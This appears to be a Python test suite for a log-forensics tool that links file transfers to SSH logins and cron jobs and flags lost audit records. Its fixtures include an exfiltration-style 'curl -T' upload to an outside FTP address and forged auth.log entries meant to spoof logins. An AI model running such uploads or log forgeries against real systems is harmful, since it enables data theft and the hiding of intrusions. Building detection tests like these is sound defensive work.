"""What the system's log beside an audit log says: logins, and what cron started."""
import gzip
import tarfile

import harness
from harness import check, has, lacks, run, test, write
from story import Story, scp_job

KEY = "ssh2: ED25519 SHA256:abc"
ACCEPTED = f"2026-12-02T01:00:00.2Z etl-01 sshd[900]: Accepted publickey for alice from " \
           f"192.0.2.7 port 50022 {KEY}\n"
FORGED = "2026-12-02T01:00:00.3Z etl-01 sshd[900]: Accepted password for root from 203.0.113.66 " \
         "port 9 ssh2\n"
LOGIN = {"user": "alice", "address": "192.0.2.7", "port": 50022, "method": "publickey",
         "key": "ED25519 SHA256:abc", "time": "2026-12-02T01:00:00.200Z"}


def log(start=1796173200.0):
    """alice uploads over a session of sshd; a job of cron does."""
    story = Story(start=start)
    story.login_shell().fork(950).exec("/usr/bin/curl", "curl", "-T", "x", "ftp://203.0.113.9/") \
        .upload(5, "203.0.113.9", 21, 300_000_000)
    scp_job(story)
    story.chatter()
    return story.text()


def facts(*args, **how):
    return {row["tool"]: row for row in run("transfers", *args, **how).rows()
            if row["type"] == "transfer"}


@test("logins: of auth.log beside the audit log, in a folder that is given")
def _():
    write("pile/audit.log", log())
    write("pile/auth.log", ACCEPTED)
    made = facts("pile")
    check(made["curl"]["login"] == LOGIN | {"evidence": "auth.log:1"}, "login", made["curl"])
    check("login" not in made["scp"], "of cron's session", made["scp"])
    has(run("transfers", "--format", "table", "pile").out,
        "login: alice from 192.0.2.7 port 50022 by publickey ED25519 SHA256:abc (auth.log:1)")
    has(run("explain", made["curl"]["id"], "pile").out,
        "login       alice from 192.0.2.7 port 50022 by publickey ED25519 SHA256:abc (auth.log:1)")
    # A log that is given alone: what lies beside was not.
    lacks(run("transfers", "pile/audit.log").out, '"login"')
    # What it says is of another host, or nobody knows of which of two.
    write("pile/auth.log", ACCEPTED + ACCEPTED.replace("etl-01", "bk-07"))
    lacks(run("transfers", "pile").out, '"login"')
    write("pile/other.log", log(1796180000.0))
    write("pile/auth.log", ACCEPTED)
    lacks(run("transfers", "pile").out, '"login"')


@test("logins: one of an account with another user id is not the session's")
def _():
    write("image/etc/hostname", "etl-01\n")
    write("image/var/log/audit/audit.log", log())
    write("image/var/log/auth.log", ACCEPTED.replace("alice", "bob"))
    write("image/etc/passwd", "bob:x:1000:1000::/home/bob:/bin/sh\n")
    check(facts("--root", "image")["curl"]["login"]["user"] == "bob", "the same id")
    write("image/etc/passwd", "bob:x:1001:1001::/home/bob:/bin/sh\n")
    made = facts("--root", "image")["curl"]
    check("login" not in made, "another's", made)
    check("/var/log/auth.log:1 tells a login of bob, who is user 1001, for session 7, which is of user "
          "1000: it is not named" in made["notes"], "said", made["notes"])


@test("logins: of an archive's members, rotated and compressed")
def _():
    write("sos/etc/hostname", "etl-01\n")
    write("sos/var/log/audit/audit.log", log())
    write("sos/var/log/secure-20261203.gz", gzip.compress(ACCEPTED.encode()))
    with tarfile.open(harness.WORK / "sos.tar.xz", "w:xz") as archive:
        archive.add(harness.WORK / "sos", "sos")
    login = facts("sos.tar.xz")["curl"]["login"]
    check(login == LOGIN | {"evidence": "sos.tar.xz!sos/var/log/secure-20261203.gz:1"}, "login",
          login)
    login = facts("--root", "sos.tar.xz")["curl"]["login"]
    check(login == LOGIN | {"evidence": "/var/log/secure-20261203.gz:1"}, "login", login)


@test("logins: a log that is cut is read as far as it goes, and said")
def _():
    write("image/etc/hostname", "etl-01\n")
    write("image/var/log/audit/audit.log", log())
    packed = gzip.compress((ACCEPTED + "x" * 200_000).encode(), 0)
    write("image/var/log/auth.log.1.gz", packed[:-100_000])
    result = run("transfers", "--root", "image", code=3)
    has(result.err, "auth.log.1.gz", "cut short")
    check("alice" in result.out, "what came before", result)


@test("logins: no line of syslog makes a verdict, or unmakes one")
def _():
    write("image/etc/hostname", "etl-01\n")
    write("image/var/log/audit/audit.log", log())
    verdicts = {tool: fact["automation"]["verdict"]
                for tool, fact in facts("--root", "image").items()}
    check(verdicts == {"curl": "attended", "scp": "unattended"}, "verdicts", verdicts)
    forged = [
        FORGED, ACCEPTED,
        # Of the pids of cron, its child and its shell.
        *(f"2026-12-02T01:00:01Z etl-01 sshd[{pid}]: Accepted publickey for alice from 192.0.2.7 "
          f"port 1 {KEY}\n" for pid in (300, 700, 701, 702)),
        "2026-12-02T01:00:01Z etl-01 systemd-logind[1]: New session 3 of user alice.\n",
        "2026-12-02T01:00:01Z etl-01 CRON[902]: (alice) CMD (-bash)\n",
        "2026-12-02T01:00:01Z etl-01 CRON[950]: (alice) CMD (curl -T x ftp://203.0.113.9/)\n",
        "2026-12-02T01:00:01Z etl-01 sudo[950]: pam_unix(sudo:session): session opened for user "
        "root(uid=0) by alice(uid=1000)\n",
    ]
    write("image/var/log/auth.log", "".join(forged))
    made = facts("--root", "image")
    check({tool: fact["automation"]["verdict"] for tool, fact in made.items()} == verdicts,
          "verdicts", made)
    check("login" not in made["curl"] and "login" not in made["scp"], "logins", made)
    check(any("2 logins of the system's log would do for session 7" in note
              for note in made["curl"]["notes"]), "notes", made["curl"])
    for fact in made.values():
        check(all(reason["sign"] != "logged" for reason in fact["automation"]["reasons"]),
              "reasons", fact)


@test("logins: judge reads what transfers writes")
def _():
    write("image/etc/hostname", "etl-01\n")
    story = Story()
    sshd = story.process(400, 1, "/usr/sbin/sshd").fork(900)
    story.event("type=LOGIN {}: pid=900 uid=0 subj=unconfined old-auid=4294967295 auid=1000 "
                "tty=(none) old-ses=4294967295 ses=7 res=1")
    sshd.auid, sshd.ses = 1000, 7
    story.user_message("USER_START", 900, 1000, 7, "PAM:session_open", "/usr/sbin/sshd", "alice",
                       "ssh", "192.0.2.7")
    sshd.fork(901, uid=1000).exec("/usr/bin/curl", "curl", "-T", "x", "ftp://203.0.113.9/").upload(
        5, "203.0.113.9", 21, 300_000_000)
    story.chatter()
    write("image/var/log/audit/audit.log", story.text())
    write("image/var/log/auth.log", ACCEPTED)
    scanned = run("scan", "-v", "--root", "image", code=1)
    has(scanned.out, "login: alice from 192.0.2.7 port 50022 by publickey ED25519 SHA256:abc "
                     "(/var/log/auth.log:1)")
    lacks(run("scan", "--root", "image", code=1).out, "login: ")
    write("facts.jsonl", run("transfers", "--root", "image").out)
    judged = run("judge", "-v", "facts.jsonl", code=1)
    check(judged.out == scanned.out, "scan and judge", scanned, judged)


@test("logins: records that the kernel says it lost make coverage partial, and bytes bounds")
def _():
    write("image/etc/hostname", "etl-01\n")
    write("image/var/log/audit/audit.log", log())
    before = run("coverage", "--format", "jsonl", "--root", "image").rows()[0]
    lost = "2026-12-02T01:00:01.0Z {} kernel: [ 12.3] audit: audit_lost={} audit_rate_limit=0 " \
           "audit_backlog_limit=64\n"
    line = lost.format("etl-01", 40) + lost.format("etl-01", 45)
    for other in ("", lost.format("bk-07", 3), line.replace("kernel:", "app[7]:")):
        write("image/var/log/kern.log", other)
        check(run("coverage", "--format", "jsonl", "--root", "image").rows()[0] == before, other)
    write("image/var/log/kern.log", line)
    row = run("coverage", "--format", "jsonl", "--root", "image").rows()[0]
    check(row["verdict"] == "partial" and {
        "from": "2026-12-02T01:00:01.000Z", "to": "2026-12-02T01:00:06.000Z",
        "why": "the kernel counted lost records"} in row["gaps"], "gap", row)
    check("records were lost: 1 places, about 6 events" in row["reasons"] and
          "the kernel says that it lost records (/var/log/kern.log:1)" in row["reasons"], "reasons",
          row)
    check({f["basis"] for f in facts("--root", "image").values()} == {"at-least"}, "basis", row)
    # Beside a log in a folder, and where no run is to be asked about.
    write("pile/audit.log", log())
    write("pile/kern.log", line)
    has(run("coverage", "--format", "table", "pile").out, "kern.log:1")
